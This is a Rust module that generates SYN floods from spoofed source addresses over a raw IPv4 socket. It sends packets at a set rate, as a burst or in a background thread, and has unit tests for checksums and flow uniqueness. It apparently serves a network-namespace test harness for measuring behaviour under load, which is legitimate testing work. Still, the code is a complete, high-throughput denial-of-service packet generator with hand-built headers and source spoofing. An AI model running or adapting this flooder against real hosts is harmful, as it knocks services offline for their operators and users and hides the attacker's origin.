//! A flood of SYNs from sources that nobody has, at a set rate, for a set time or in the background.

use std::net::SocketAddrV4;
use std::os::fd::AsRawFd as _;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use nix::sys::socket::{MsgFlags, MultiHeaders, SockaddrIn, sendmmsg};
use socket2::{Domain, Protocol, Socket, Type};

use crate::namespace::{self, Namespace};
use crate::{arena, cpu};

/// Packets that are handed to the kernel by one system call.
const BATCH: usize = 64;
/// IPv4 header, TCP header, and one option: the MSS.
const LENGTH: usize = 20 + 24;
/// Between two batches.
const STEP: Duration = Duration::from_millis(1);

/// Sends `per_second` SYNs a second, or as many as go, from the calling thread's namespace. Returns how many went.
pub fn run(target: SocketAddrV4, per_second: u32, length: Duration) -> Result<u64> {
    cpu::pin(cpu::LOAD)?;
    // Before the streams that it runs beside: whoever floods is another machine, and waits for nobody's load. Linux
    // knows the priority of a thread.
    rustix::process::setpriority_process(None, -20).context("the priority of the flood")?;
    let begun = Instant::now();
    send(target, per_second, || begun.elapsed() >= length)
}

/// Sends `count` SYNs, or a batch more, as fast as they go, from the calling thread's namespace.
pub fn burst(target: SocketAddrV4, count: u32) -> Result<()> {
    let (mut sender, mut sent) = (Sender::new(target)?, 0);
    while sent < u64::from(count) {
        sent += sender.send()?;
    }
    Ok(())
}

/// A flood that goes on until this is dropped.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<Result<u64>>>,
}

impl Flood {
    /// Begins to send from a namespace.
    pub fn start(from: &Namespace, target: SocketAddrV4, per_second: u32) -> Self {
        let (stop, place) = (Arc::new(AtomicBool::new(false)), from.open());
        let stopped = stop.clone();
        let thread = std::thread::spawn(move || {
            namespace::join(&place);
            send(target, per_second, || stopped.load(Ordering::Relaxed))
        });
        Self { stop, thread: Some(thread) }
    }

    /// Ends it. Returns how many SYNs went.
    pub fn end(mut self) -> Result<u64> {
        self.stop.store(true, Ordering::Relaxed);
        let Some(thread) = self.thread.take() else { return Ok(0) };
        thread.join().unwrap_or_else(|panic| std::panic::resume_unwind(panic))
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // A panic in there has been printed.
            let _ = thread.join();
        }
    }
}

fn send(target: SocketAddrV4, per_second: u32, over: impl Fn() -> bool) -> Result<u64> {
    let mut sender = Sender::new(target)?;
    // What 4 ms bring, and a batch at least.
    let burst = (u64::from(per_second) / 250).max(BATCH as u64);
    let (begun, mut sent, mut dropped) = (Instant::now(), 0, 0_u64);
    while !over() {
        let due = (begun.elapsed().as_secs_f64() * f64::from(per_second)) as u64 - dropped;
        // What was missed by more than that is not caught up with: a burst is not the rate that was asked for.
        let behind = due.saturating_sub(sent).saturating_sub(burst);
        dropped += behind;
        for _ in 0..due.saturating_sub(behind + sent) / BATCH as u64 {
            sent += sender.send()?;
        }
        std::thread::sleep(STEP);
    }
    Ok(sent)
}

struct Sender {
    socket: Socket,
    target: SocketAddrV4,
    number: u32,
    headers: MultiHeaders<SockaddrIn>,
}

impl Sender {
    fn new(target: SocketAddrV4) -> Result<Self> {
        // The headers are ours (raw(7)).
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(nix::libc::IPPROTO_RAW)))?;
        socket.connect(&std::net::SocketAddr::from(target).into())?;
        Ok(Self { socket, target, number: 0, headers: MultiHeaders::preallocate(BATCH, None) })
    }

    fn send(&mut self) -> Result<u64> {
        let first = self.number;
        self.number = self.number.wrapping_add(BATCH as u32);
        let packets: Vec<_> = (0..BATCH as u32).map(|i| syn(first.wrapping_add(i), self.target)).collect();
        let slices: Vec<_> = packets.iter().map(|packet| [std::io::IoSlice::new(packet)]).collect();
        let results = sendmmsg(
            self.socket.as_raw_fd(),
            &mut self.headers,
            &slices,
            vec![None; BATCH],
            [],
            MsgFlags::empty(),
        );
        match results {
            Ok(results) => Ok(results.count() as u64),
            // A queue is full: what a flood is for.
            Err(nix::errno::Errno::ENOBUFS) => Ok(0),
            Err(error) => Err(error.into()),
        }
    }
}

/// The `number`-th SYN: another source, port and sequence number than the one before.
fn syn(number: u32, target: SocketAddrV4) -> [u8; LENGTH] {
    let mixed = number.wrapping_mul(0x9e37_79b9);
    let mut packet = [0; LENGTH];
    let (ip, tcp) = packet.split_at_mut(20);
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&(LENGTH as u16).to_be_bytes());
    ip[8..10].copy_from_slice(&[64, 6]);
    ip[12..16].copy_from_slice(&arena::spoofed(mixed >> 17).octets());
    ip[16..20].copy_from_slice(&target.ip().octets());
    let sum = checksum(0, ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    tcp[0..2].copy_from_slice(&(1024 | mixed as u16).to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&mixed.rotate_left(16).to_be_bytes());
    tcp[12..16].copy_from_slice(&[6 << 4, 0x02, 0xfa, 0xf0]);
    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]);
    let pseudo = u32::from(u16::from_be_bytes([0, 6])) + tcp.len() as u32;
    let sum = checksum(words(&ip[12..20]) + pseudo, tcp);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    packet
}

/// RFC 1071.
fn checksum(start: u32, bytes: &[u8]) -> u16 {
    let mut sum = start + words(bytes);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn words(bytes: &[u8]) -> u32 {
    bytes.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
}

/// A target that the gateway drops.
pub fn dropped() -> SocketAddrV4 {
    SocketAddrV4::new(arena::DROPPED_ADDRESS, arena::SILENT)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn both_checksums_are_right() {
        let target = SocketAddrV4::new([198, 18, 0, 1].into(), 702);
        for number in [0, 1, 77, u32::MAX] {
            let packet = syn(number, target);
            let (ip, tcp) = packet.split_at(20);
            assert_eq!(checksum(0, ip), 0, "{number}");
            let pseudo = words(&ip[12..20]) + 6 + tcp.len() as u32;
            assert_eq!(checksum(pseudo, tcp), 0, "{number}");
        }
    }

    #[test]
    fn no_two_flows_of_a_hundred_thousand_are_the_same() {
        let target = SocketAddrV4::new([198, 18, 0, 1].into(), 702);
        let flow = |number| {
            let packet = syn(number, target);
            (packet[12..16].to_vec(), packet[20..22].to_vec())
        };
        let flows: std::collections::HashSet<_> = (0..100_000).map(flow).collect();
        assert_eq!(flows.len(), 100_000);
    }
}
